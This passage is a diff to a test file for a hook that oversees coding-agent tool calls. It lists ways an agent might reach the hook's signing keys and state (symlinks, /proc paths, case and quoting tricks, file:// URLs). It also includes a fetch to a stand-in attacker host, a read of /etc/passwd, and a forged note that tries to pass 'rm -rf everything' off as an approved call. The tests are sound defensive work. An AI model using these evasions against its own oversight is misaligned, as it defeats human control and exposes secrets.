@@ -1,11 +1,12 @@
 // What a project that somebody else wrote, or an agent that was talked into it, tries against `paraph hook`.
-import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
+import { createHash } from "node:crypto";
+import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { fileURLToPath } from "node:url";
 import { codingAgent } from "@paraph/server";
 import { afterAll, describe, expect, it } from "vitest";
-import { runHook } from "./run-hook.ts";
+import { decisionOf, runHook, wordsOf } from "./run-hook.ts";
 import { Whole } from "./whole.ts";
 
 const folder = await mkdtemp(join(tmpdir(), "paraph-hook-trust-"));
@@ -163,4 +164,97 @@ describe("[TRUST 31] a server counts as Paraph only if nothing else can answer",
     expect(await isAsked("mcp_git_hub_list", { client })).toBe(true);
     expect(await isAsked("mcp_git_list", { client })).toBe(false);
   });
+});
+
+describe("[TRUST 27] [TRUST 31] no tool of an agent's reaches Paraph's own keys", async () => {
+  const record = join(home, ".local/state/paraph/folders/x.json");
+  await put(join(project, ".paraph/state.json"), "{}");
+  await put(join(project, ".paraph/keys/signing.pem"), "key");
+  await put(record, "{}");
+  await symlink(join(project, ".paraph"), join(project, "notes"));
+  await symlink(join(project, ".paraph/keys"), join(project, "deep"));
+  await symlink(dirname(record), join(project, "recorded"));
+  const read = (file_path: string): [string, object] => ["Read", { file_path }];
+  const shell = (command: string): [string, object] => ["Bash", { command }];
+
+  it.each<[string, string, object, Options?]>([
+    ["by its path", ...read(join(project, ".paraph/state.json"))],
+    ["by a relative path", ...read("./.paraph//state.json")],
+    ["by a way round", ...read("below/../.paraph/state.json")],
+    ["in another case", ...read(".PaRaPh/state.json")],
+    ["through a link", ...read("notes/state.json")],
+    ["through a link and back", ...read("deep/../state.json")],
+    ["through a process's own view", ...read("/proc/self/cwd/state.json")],
+    ["through another process's view", ...read(`/proc/${process.pid}/environ`)],
+    ["from within", ...read("state.json"), { cwd: join(project, ".paraph") }],
+    ["from within, behind a link", ...read("state.json"), { cwd: join(project, "notes") }],
+    ["as a file address", ...read(`file://${project}/.paraph/state.json`)],
+    ["the record outside of the project", ...read(record)],
+    ["the record through a link", ...read("recorded/x.json")],
+    ["by a search", "Grep", { pattern: ".", path: ".paraph" }],
+    ["by the filter of a search", "Grep", { pattern: ".", glob: ".paraph/**" }],
+    ["by a pattern", "Glob", { pattern: `${project}/.paraph/*` }],
+    ["by a write", "Write", { file_path: ".paraph/state.json", content: "x" }],
+    ["by an edit", "Edit", { file_path: "notes/state.json", old_string: "a", new_string: "b" }],
+    ["in a command", ...shell("cat .paraph/state.json")],
+    ["in a command with quotes", ...shell('cat ".par"aph/state.json')],
+    ["in a command through a link", ...shell("cat<notes/state.json")],
+    ["in a command by the record's place", ...shell("cat $HOME/.local/state/paraph/folders/*")],
+    ["in a patch", "apply_patch", { command: "*** Update File: .paraph/state.json" }, { client: "codex" }],
+    ["in a list of files", "read_many_files", { include: [".paraph/*.json"] }, { client: "gemini" }],
+  ])("%s", async (_, tool, input, options = {}) => {
+    const before = (await calls("agent.own_folder")).length;
+    const { code, said } = await use(tool, input, options);
+    expect(code).toBe(0);
+    expect(JSON.stringify(said)).toContain("Paraph keeps keys there");
+    expect(await calls("agent.own_folder")).toHaveLength(before + 1);
+  });
+
+  it("reads elsewhere go on, and policy can rule on where they lead", async () => {
+    await put(join(project, "a.paraph.txt"), "text");
+    await symlink(join(project, "a.paraph.txt"), join(project, "linked"));
+    for (const [tool, input] of [read("linked"), ["Grep", { pattern: "x" }]] as const)
+      expect(await use(tool, input)).toMatchObject({ code: 0, said: undefined });
+    const [search, one] = await calls("agent.read");
+    const input = async ({ call }: { call: string }) =>
+      (await whole.request("ana", "GET", `/v1/calls/${call}`)).body.input;
+    expect([(await input(one)).path, (await input(search)).path]).toEqual([
+      join(project, "a.paraph.txt"),
+      project,
+    ]);
+  });
+
+  it("[TRUST 31] a fetch asks by default, with its address and host; one without a single address is unknown", async () => {
+    const fetched = await use("WebFetch", { url: "HTTP://Evil.example/?k=x", prompt: "look" });
+    expect(wordsOf(fetched)).toContain("this waits in Paraph");
+    const [asked] = await calls("agent.web_fetch");
+    const { input } = (await whole.request("ana", "GET", `/v1/calls/${asked.call}`)).body;
+    expect(input).toMatchObject({ url: "http://evil.example/?k=x", host: "evil.example" });
+    const before = (await calls("agent.unknown")).length;
+    const two = { prompt: "https://a.example and https://b.example" };
+    for (const [tool, input, client] of [
+      ["WebFetch", { url: "file:///etc/passwd" }, "claude-code"],
+      ["web_fetch", two, "gemini"],
+    ] as const)
+      expect((await use(tool, input, { client })).said).toBeDefined();
+    expect(await calls("agent.unknown")).toHaveLength(before + 2);
+  });
+});
+
+it("[TRUST 1] a note cannot pass off one call as another: what is taken is compared with what is about to happen", async () => {
+  const { body: harmless } = await whole.request("bot", "POST", "/v1/calls", {
+    capability: "agent.read",
+    input: { client: "claude-code", cwd: project, path: project, tool: "LS", input: {} },
+  });
+  const command = "rm -rf everything";
+  const digest = (text: string) => createHash("sha256").update(text).digest("hex");
+  const session = `claude-code:${digest("s1").slice(0, 32)}`;
+  const request = JSON.stringify(["bash", { client: "claude-code", cwd: project, command }]);
+  const note = `waiting-${digest(JSON.stringify([session, request]))}.json`;
+  await put(join(home, ".local/state/paraph/hook", note), { call: harmless.call });
+  const answer = await use("Bash", { command });
+  expect(decisionOf(answer)).toBe("deny");
+  expect(wordsOf(answer)).not.toContain(harmless.call);
+  const { body } = await whole.request("ana", "GET", `/v1/calls/${harmless.call}`);
+  expect(body.state).toBe("offered");
 });
